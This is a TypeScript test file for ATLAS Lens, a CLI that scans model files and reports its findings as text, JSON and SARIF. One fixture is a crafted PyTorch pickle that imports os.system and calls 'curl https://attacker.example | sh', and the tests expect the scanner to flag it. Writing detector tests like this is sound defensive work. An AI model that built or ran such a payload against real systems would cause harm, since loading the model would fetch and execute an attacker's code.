/**
 * The built CLI on a folder holding model files, as a new user would run it: a clean checkpoint,
 * one that imports os.system, a joblib model of scikit-learn classes, a safetensors file, and the
 * code that loads the hostile one. Text, JSON and SARIF (validated against the 2.1.0 schema).
 */
import assert from 'node:assert/strict';
import * as fs from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import { test } from 'node:test';
import { CLI, runCli as run } from '../helpers/run-cli';
import { loadSarifValidator } from '../helpers/sarif-schema';
import { callPickle, makeSafetensors, PickleWriter, stateDictPickle, torchZip } from './writers';

function workspace(): string {
  const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'atlas-lens-cli-artifacts-'));
  const files: Record<string, Buffer | string> = {
    'models/clean.pt': torchZip(stateDictPickle([{ name: 'fc.weight', numel: 4, key: '0' }]), [Buffer.alloc(16)]),
    'models/classifier.pt': torchZip(new PickleWriter().proto(2).global('os', 'system').str('curl https://attacker.example | sh', 2).tuple1().reduce().stop().toBuffer()),
    'models/fraud.joblib': new PickleWriter().proto(4).str('sklearn.ensemble._forest').str('RandomForestClassifier').stackGlobal().emptyTuple().newobj().emptyDict().build().stop().toBuffer(),
    'models/encoder.safetensors': makeSafetensors({ __metadata__: { format: 'pt' }, w: { dtype: 'F32', shape: [2], data_offsets: [0, 8] } }, 8),
    'train.py': 'import torch\n\nmodel = torch.load("models/classifier.pt", weights_only=True)\n',
  };
  for (const [name, content] of Object.entries(files)) {
    fs.mkdirSync(path.dirname(path.join(dir, name)), { recursive: true });
    fs.writeFileSync(path.join(dir, name), content);
  }
  return dir;
}

test('text output: each model file gets its verdict, the load call of the hostile one is an error', () => {
  assert.ok(fs.existsSync(CLI), `${CLI} is missing: run npm run build`);
  const dir = workspace();
  const { code, stdout } = run(['scan', '.'], dir);
  assert.equal(code, 1);
  const lines = stdout.trimEnd().split('\n');
  assert.match(lines[0]!, /^models\/classifier\.pt:1:1: error \[artifact-dangerous-import\] This PyTorch checkpoint imports os\.system, called as os\.system\('curl https:\/\/attacker\.example \| sh'\) \(in archive\/data\.pkl at byte 2\) — process: .* \(AML\.T0018\.002, AML\.T0011\.000\)$/);
  assert.match(lines[1]!, /^models\/fraud\.joblib:1:1: warning \[artifact-unknown-import\] This joblib file imports a global outside the known-safe set: sklearn\.ensemble\._forest\.RandomForestClassifier \(at byte \d+\)\./);
  assert.match(lines[2]!, /^train\.py:3:20: error \[load-inspected-artifact\] torch\.load\(\) loads models\/classifier\.pt, inspected by ATLAS Lens: dangerous: imports os\.system/);
  assert.match(lines[3]!, /^3 findings \(2 errors, 1 warning, 0 info\) in 5 files, \d+ ms$/);
  assert.equal(lines[4], 'Model files: 4 inspected: 1 dangerous, 1 suspicious, 2 clean (models/clean.pt, models/encoder.safetensors)');
  assert.equal(lines.length, 5);
});

test('JSON lists every verdict; SARIF validates and carries the artifact rules', () => {
  const dir = workspace();
  const json = JSON.parse(run(['scan', '.', '--format', 'json', '--fail-on', 'never'], dir).stdout);
  assert.deepEqual(
    json.artifacts.map((a: { path: string; format: string; verdict: string }) => [a.path, a.format, a.verdict]),
    [
      ['models/classifier.pt', 'torch-zip', 'dangerous'],
      ['models/clean.pt', 'torch-zip', 'clean'],
      ['models/encoder.safetensors', 'safetensors', 'clean'],
      ['models/fraud.joblib', 'joblib', 'suspicious'],
    ],
  );
  const out = path.join(dir, 'out.sarif');
  assert.equal(run(['scan', '.', '--format', 'sarif', '--output', out, '--fail-on', 'never'], dir).code, 0);
  const log = JSON.parse(fs.readFileSync(out, 'utf8'));
  const validate = loadSarifValidator();
  const isValid: boolean = validate(log);
  assert.ok(isValid, JSON.stringify(validate.errors, null, 2));
  const results = log.runs[0].results;
  const artifact = results.find((r: { ruleId: string }) => r.ruleId === 'artifact-dangerous-import');
  assert.equal(artifact.level, 'error');
  assert.equal(artifact.locations[0].physicalLocation.artifactLocation.uri, 'models/classifier.pt');
  assert.ok(artifact.partialFingerprints);
  const taxa = log.runs[0].taxonomies[0].taxa.map((t: { id: string }) => t.id);
  assert.ok(taxa.includes('AML.T0018.002'));
  // The load call's result links the model file it reads (code scanning shows it beside the call).
  const load = results.find((r: { ruleId: string }) => r.ruleId === 'load-inspected-artifact');
  assert.deepEqual(load.relatedLocations, [
    { id: 0, physicalLocation: { artifactLocation: { uri: 'models/classifier.pt', uriBaseId: '%SRCROOT%' } }, message: { text: "The model file torch.load() loads: dangerous: imports os.system (process, called as os.system('curl https://attacker.example | sh'))." } },
  ]);
  const jsonLoad = json.findings.find((f: { ruleId: string }) => f.ruleId === 'load-inspected-artifact');
  assert.deepEqual(jsonLoad.related, [{ path: 'models/classifier.pt', message: "The model file torch.load() loads: dangerous: imports os.system (process, called as os.system('curl https://attacker.example | sh'))." }]);
  // Findings about no other file have none.
  assert.equal(artifact.relatedLocations, undefined);
});

test('--fail-on and rules: off turn artifact findings off like any rule', () => {
  const dir = workspace();
  fs.writeFileSync(path.join(dir, '.atlas-lens.yaml'), 'rules:\n  artifact-dangerous-import: off\n  artifact-unknown-import: off\n  load-inspected-artifact: off\n');
  const { code, stdout } = run(['scan', '.'], dir);
  assert.equal(code, 0);
  assert.match(stdout, /^No findings in \d+ files/m);
});
